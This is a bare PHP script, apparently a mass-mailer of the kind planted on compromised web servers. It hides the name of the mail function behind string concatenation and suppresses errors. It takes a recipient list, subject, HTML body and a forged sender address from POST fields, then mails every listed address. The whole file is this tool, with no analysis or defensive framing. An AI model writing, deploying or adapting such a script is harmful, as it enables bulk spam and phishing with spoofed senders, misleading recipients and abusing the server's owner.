<?php
$m = 'ma' . 'il';
$t = explode("\n", $_POST['l']);
for ($i = 0; $i < count($t); $i++) {
    @$m(trim($t[$i]), $_POST['s'], $_POST['b'], "From: " . $_POST['f'] . "\r\nContent-Type: text/html");
}
print count($t);
